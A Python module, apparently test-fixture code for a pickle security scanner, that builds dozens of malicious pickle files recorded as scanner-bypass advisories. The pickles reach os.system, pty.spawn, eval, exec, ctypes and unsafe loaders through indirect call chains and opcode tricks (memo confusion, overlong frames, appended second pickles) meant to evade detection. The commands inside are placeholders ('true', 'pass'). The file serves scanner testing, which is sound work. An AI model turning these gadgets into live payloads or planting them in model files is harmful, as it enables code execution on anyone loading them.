"""Builds the files of `tests/advisories/bypasses.toml` that are more than one call. Nothing here is imported or called.

open("model.pkl", "wb").write(c_methodcaller())
"""

from __future__ import annotations

import struct
import zlib

from pickle_forge import (
    APPEND,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NONE,
    OBJ,
    POP,
    PROTO4,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    TUPLE,
    TUPLE1,
    call,
    get,
    literal,
    name,
    number,
    program,
    put,
    raw,
    stack_name,
    text,
)

SHELL = name("os", "system")
RUN = call(SHELL, text("true"))
IMPORT_OS = call(name("importlib", "import_module"), text("os"))
CODE = b"\xe3" + bytes(12)
"""The start of a marshalled code object; nobody unmarshals it."""


def modern(*opcodes: bytes) -> bytes:
    return program(*opcodes, proto=PROTO4)


def command() -> bytes:
    return program(RUN)


# --- chains of calls


def ctypes_chain() -> bytes:
    library = call(name("ctypes", "CDLL"), text("nothing.so"))
    function = call(call(name("operator", "itemgetter"), text("f")), library)
    return program(call(call(name("operator", "methodcaller"), text("__call__"), text("x")), function))


def locate_and_methodcaller() -> bytes:
    found = call(name("pydoc", "locate"), text("os"))
    return program(call(call(name("operator", "methodcaller"), text("system"), text("true")), found))


def pty_by_obj() -> bytes:
    return modern(MARK, name("pty", "spawn"), EMPTY_LIST, text("true"), APPEND, OBJ)


def pty_with_state() -> bytes:
    return modern(call(stack_name("pty", "spawn"), text("true")), text("state"), BUILD)


def c_methodcaller() -> bytes:
    module = call(name("builtins", "__import__"), text("os"))
    return program(call(call(name("_operator", "methodcaller"), text("system"), text("true")), module))


def c_attrgetter() -> bytes:
    module = call(name("builtins", "__import__"), text("os"))
    return program(call(call(call(name("_operator", "attrgetter"), text("system")), module), text("true")))


def eval_behind_getattr() -> bytes:
    found = call(name("builtins", "getattr"), name("builtins", "__builtins__"), text("eval"))
    return program(call(call(name("builtins", "getattr"), found, text("__call__")), text("1")))


def resolve_name() -> bytes:
    return program(call(call(name("pkgutil", "resolve_name"), text("os:system")), text("true")))


def bdb_run() -> bytes:
    debugger = name("bdb", "Bdb") + EMPTY_TUPLE + NEWOBJ
    return modern(call(stack_name("bdb", "Bdb.run"), debugger, text("pass")))


def partial_of_load() -> bytes:
    """`partial(torch.load, path, weights_only=False)()`, as `partial` pickles itself."""
    made = call(name("functools", "partial"), name("torch.serialization", "load"))
    state = (
        name("torch.serialization", "load")
        + text("other.bin")
        + TUPLE1
        + literal({"pickle_file": "config.json", "weights_only": False})
        + NONE
    )
    return program(made, MARK, state, TUPLE, BUILD, EMPTY_TUPLE, REDUCE)


def getattr_static() -> bytes:
    return program(call(call(name("inspect", "getattr_static"), IMPORT_OS, text("system")), text("true")))


def import_and_methodcaller() -> bytes:
    return program(call(call(name("operator", "methodcaller"), text("system"), text("true")), IMPORT_OS))


def vars_and_getitem() -> bytes:
    entries = call(name("builtins", "vars"), IMPORT_OS)
    return program(call(call(name("operator", "getitem"), entries, text("system")), text("true")))


def marshal_function() -> bytes:
    code = call(name("marshal", "loads"), raw(CODE))
    return program(call(call(name("types", "FunctionType"), code, EMPTY_DICT)), text("state"), BUILD)


def code_type() -> bytes:
    parts = [number(0)] * 6 + [raw(b"d\0S\0"), EMPTY_TUPLE, EMPTY_TUPLE, EMPTY_TUPLE, text("f"), text("f"), number(1)]
    code = call(name("types", "CodeType"), *parts)
    return program(call(call(name("types", "FunctionType"), code, EMPTY_DICT)))


def cloudpickle_function() -> bytes:
    code = call(call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")), number(0), raw(b"d\0S\0"))
    made = call(name("cloudpickle.cloudpickle", "_make_function"), code, EMPTY_DICT, NONE, NONE, NONE)
    return program(call(made))


def run_and_read_all() -> bytes:
    return modern(
        call(
            stack_name("torch.utils.collect_env", "run_and_read_all"),
            stack_name("torch.utils.collect_env", "run"),
            text("true"),
        )
    )


def unsafe_yaml() -> bytes:
    tagged = text("!!python/object/apply:os.system [x]")
    return program(call(name("yaml", "load"), tagged, name("yaml.loader", "UnsafeLoader")))


def transformers_indirect() -> bytes:
    auto = name("transformers.models.auto.tokenization_auto", "AutoTokenizer")
    helper = name("transformers.models.auto.auto_factory", "getattribute_from_module")
    return program(call(call(helper, auto, text("from_pretrained")), text("nobody/nothing")))


def joblib_companion() -> bytes:
    state = {"filename": "second.npy", "allow_mmap": True}
    wrapper = name("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    kind = name("numpy", "ndarray")
    return program(wrapper, literal(state), text("subclass"), kind, SETITEM, BUILD)


def pydoc_ctypes() -> bytes:
    found = call(name("pydoc", "locate"), text("ctypes.pythonapi.PyErr_Clear")) + put(0) + POP
    called = get(0) + raw(b"x") + TUPLE1 + REDUCE + put(1) + POP
    held = call(name("builtins", "Exception")) + put(2) + EMPTY_DICT + text("status") + get(1) + SETITEM + BUILD
    return program(found, called, held)


def getattr_of_library() -> bytes:
    library = call(name("ctypes", "CDLL"), text("nothing.so"))
    return program(call(call(name("builtins", "getattr"), library, text("system")), raw(b"true")))


def getattr_of_module() -> bytes:
    return program(call(call(name("builtins", "getattr"), IMPORT_OS, text("system")), text("true")))


def getattr_of_interpreter() -> bytes:
    interpreter = call(name("code", "InteractiveInterpreter"))
    return program(call(call(name("builtins", "getattr"), interpreter, text("runsource")), text("pass")))


def builtins_chain() -> bytes:
    module = call(name("builtins", "__import__"), text("os")) + put(0) + POP
    taken = call(name("builtins", "getattr"), get(0), text("system")) + put(1) + POP
    return program(module, taken, call(get(1), text("true")))


def obj_and_pop() -> bytes:
    return modern(MARK, stack_name("smtplib", "SMTP"), text("127.0.0.1"), OBJ, POP, NONE)


def reduce_and_build() -> bytes:
    server = call(stack_name("socketserver", "TCPServer"), literal(("127.0.0.1", 0)), NONE)
    return modern(server, EMPTY_DICT, BUILD)


def linecache_into_state() -> bytes:
    lines = call(stack_name("linecache", "getlines"), text("nothing"))
    table = call(name("builtins", "dict"), call(name("builtins", "enumerate"), lines)) + put(2) + POP
    return modern(table, call(stack_name("difflib", "Differ")), put(3), get(2), BUILD, POP, get(3))


def subinterpreter() -> bytes:
    made = call(name("_xxsubinterpreters", "create")) + put(0) + POP
    ran = call(name("_xxsubinterpreters", "run_string"), get(0), text("pass")) + put(1) + POP
    return program(made, ran, call(name("collections", "OrderedDict")), EMPTY_DICT, text("a"), get(1), SETITEM, BUILD)


# --- opcodes


def names_first() -> bytes:
    return b"S'os'\nS'system'\n\x93S'true'\n\x85R."


def old_strings() -> bytes:
    return b"\x80\x04U\x02osU\x06system\x93U\x04true\x85R."


def memo_order() -> bytes:
    places = b"".join(
        b"V" + value + b"\np" + place + b"\n0"
        for value, place in ((b"os", b"2"), (b"system", b"3"), (b"torch", b"0"), (b"LongStorage", b"1"))
    )
    return places + b"g2\ng3\n\x93(Vtrue\ntR."


def memo_missing() -> bytes:
    return PROTO4 + RUN + POP + b"\x8c\x02os\x94h\x03h\0\x93KB."


def confused_number() -> bytes:
    return PROTO4 + RUN + POP + number(42) + b"\x94\x8c\x02os\x94h\0h\x01\x93KB."


def confused_bytes() -> bytes:
    return PROTO4 + RUN + POP + b"C\x02osp1\n\x8c\x06systemp2\ng1\ng2\n\x93."


def confused_bytearray() -> bytes:
    return b"\x80\x05" + RUN + POP + b"\x96" + struct.pack("<Q", 6) + b"systemp1\n\x8c\x02osp2\ng2\ng1\n\x93."


def memo_after_pop() -> bytes:
    """`os`, None thrown away, and only then into its place."""
    return (
        PROTO4
        + text("os")
        + NONE
        + POP
        + b"q\0"
        + POP
        + text("system")
        + NONE
        + POP
        + b"q\x01"
        + POP
        + (b"h\0h\x01\x93" + text("true") + TUPLE1 + REDUCE + b".")
    )


def memo_of_memo() -> bytes:
    """From places 8 and 9 into 0 and 1: whoever keeps the argument of the opcode keeps a number."""
    names = text("posix") + b"q\x080" + text("system") + b"q\x090"
    return PROTO4 + names + b"h\x08q\x000h\x09q\x010h\0h\x01\x93" + text("true") + TUPLE1 + REDUCE + b"."


def name_by_inst() -> bytes:
    module = MARK + text("os") + b"ibuiltins\nstr\nq\0h\0"
    return PROTO4 + module + text("system") + STACK_GLOBAL + text("true") + TUPLE1 + REDUCE + b"."


def extension_code() -> bytes:
    given = call(name("copyreg", "add_extension"), text("os"), text("system"), number(31337)) + POP
    return program(given, b"\x83" + struct.pack("<H", 31337), text("true"), TUPLE1, REDUCE)


def python_2_name() -> bytes:
    return program(call(name("commands", "run"), literal(["true"])))


def introspection() -> bytes:
    classes = call(stack_name("builtins", "print.__class__.__base__.__subclasses__")) + put(1) + POP
    setter = stack_name("builtins", "__setattr__")
    kept = call(setter, text("subclasses"), get(1)) + POP
    taken = call(stack_name("builtins", "subclasses.__getitem__"), number(137)) + put(2) + POP
    again = call(setter, text("gadget"), get(2)) + POP
    reached = call(stack_name("builtins", "gadget.__init__.__builtins__.__getitem__"), text("eval"))
    return modern(classes, kept, taken, again, call(reached, text("1")))


def type_of_code() -> bytes:
    reach = call(name("operator", "methodcaller"), text("__getattribute__"), text("__code__"))
    code = call(name("builtins", "type"), call(reach, name("copy", "copy")))
    function = call(name("builtins", "type"), name("copy", "copy"))
    return program(call(call(function, call(code, number(0)), EMPTY_DICT)))


def packed_exec() -> bytes:
    return program(call(name("builtins", "exec"), call(name("zlib", "decompress"), raw(zlib.compress(b"pass")))))


def broken_behind() -> bytes:
    return b"cbuiltins\nexec\n(X\x04\0\0\0passtRX."


def bytes_behind() -> bytes:
    return memo_order() + b"\n\n\t\t"


def error_between() -> bytes:
    return program(call(name("collections", "OrderedDict"))) + b"\xfe" + program(RUN)


def second_pickle() -> bytes:
    return program(literal(["a", "b", "c"])) + program(RUN)


def long_frame() -> bytes:
    """The frame reaches over the end of the first program into the second."""
    second = modern(RUN)
    return b"\x80\x04\x95" + struct.pack("<Q", 2 + len(second)) + b"N." + second


def nested_in_storage() -> bytes:
    return program(call(name("torch.storage", "_load_from_bytes"), raw(modern(RUN))))
